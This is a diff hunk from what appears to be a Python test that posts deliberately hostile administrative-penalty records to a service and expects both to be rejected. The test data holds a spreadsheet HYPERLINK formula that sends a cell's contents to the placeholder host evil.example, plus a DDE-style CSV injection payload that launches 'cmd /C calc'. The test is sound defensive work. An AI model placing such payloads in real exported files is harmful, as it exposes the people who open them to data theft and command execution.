@@ -290,7 +290,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此")'
 def hostile_batch(client: Any, market_bureau: ProviderPersona) -> int:
     records = [
         penalty(行政相对人名称=FORMULA, 处罚决定日期="某日"),
-        penalty(违法事实="含\x01控制字符", 备注="@SUM(1+1)*cmd|' /C calc'!A0"),
+        penalty(违法事实="含\x01控制字符", 备注="@SUM(1+1)*cmd|' /C calc'!A0", 处罚决定日期="某日"),
     ]
     response = market_bureau.post(client, records)
     assert response.json()["batch"]["rejected"] == 2
